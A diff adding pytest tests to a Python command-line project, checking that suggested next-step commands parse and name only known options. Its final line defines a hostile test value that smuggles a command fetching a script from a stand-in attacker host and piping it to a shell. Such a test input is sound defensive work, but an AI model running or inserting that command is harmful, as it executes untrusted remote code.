@@ -6,11 +6,14 @@ import re
 from collections import defaultdict
 from string import Formatter
 
+import click
 import pytest
 
 import sft.cli.next_steps
 import sft.operator.next_steps
 import tui.next_steps
+from sft.cli.main import cli
+from sft.cli.next_steps import OF_COMMAND, STEPS, steps_of_command
 from sft.errors import REQUEST_ERRORS, NameClashError, NotFoundError, RoleForbidsError, SftError
 
 TABLES = {
@@ -77,6 +80,52 @@ def test_what_is_not_found_is_looked_for_where_it_is_listed(what, name, here, op
     error = NotFoundError(what=what, name=name)
     assert sft.cli.next_steps.NEXT_STEPS.of(error, now=0) == f"See what there is: {here}"
     assert sft.operator.next_steps.NEXT_STEPS.of(error, now=0) == (f"See what there is: twistd sft {operator} list")
+
+
+# What a command never meets, for it has no such word or asks nothing of the kind.
+NEVER_MET = {
+    "sync": {"KEY_TAKEN", "LAST_ADMIN", "NOT_EMPTY", "SIGNATURE_MISSING"},
+    "watch": {
+        "FILE_EXISTS",
+        "KEY_TAKEN",
+        "LAST_ADMIN",
+        "MOVED",
+        "NOT_EMPTY",
+        "SIGNATURE_MISSING",
+        "TOO_MANY_DELETIONS",
+    },
+    "resume": {"KEY_TAKEN", "LAST_ADMIN", "NAME_NOT_ALLOWED", "NOT_EMPTY", "SIGNATURE_MISSING", "TOO_MANY_DELETIONS"},
+}
+_OTHERS = re.compile(r"(?:twistd sft|pip install|pipx)[^;,.()]*")
+_COMMAND = re.compile(
+    r"(?<!twistd )\bsft ([a-z]+(?: (?:--?[\w-]+|guest|[a-z]+(?= NAME| \S*:)|[A-Z][A-Z:.]+|\{\w+\}|-))*)"
+)
+
+
+def parsed_by(command: str, words: list[str]) -> None:
+    context = click.Context(cli)
+    cli.get_command(context, command).make_context(command, words, parent=context)
+
+
+@pytest.mark.parametrize(
+    ("command", "code"), [(command, code) for command in NEVER_MET for code in STEPS if code not in NEVER_MET[command]]
+)
+def test_what_a_command_says_next_can_be_typed(command, code):
+    """A whole command is parsed by its own parser, an option alone is one of the command that says it."""
+    step = _OTHERS.sub("", steps_of_command(command).by_code[code]).replace("{needed}", "guest")
+    for whole in _COMMAND.findall(step):
+        name, *words = re.sub(r"\{version\}|(?<=--version )N", "1", whole).split()
+        if name != "join":  # its link is read from standard input
+            parsed_by(name, [re.sub(r"\{\w+\}", "x", word) for word in words])
+    known = {option for parameter in cli.get_command(click.Context(cli), command).params for option in parameter.opts}
+    assert set(re.findall(r"--[a-z-]+|(?<!\S)-[a-z]\b", _COMMAND.sub("", step))) <= known, step
+
+
+@pytest.mark.parametrize("command", OF_COMMAND)
+def test_a_step_of_a_command_names_only_what_every_error_of_its_code_has(command):
+    for code, template in OF_COMMAND[command].items():
+        named = {name for _, name, _, _ in Formatter().parse(template) if name} - {"there"}
+        assert all(named <= values for values in VALUES[code]), code
 
 
 EVIL = "x; curl https://evil.example/fix | sh"
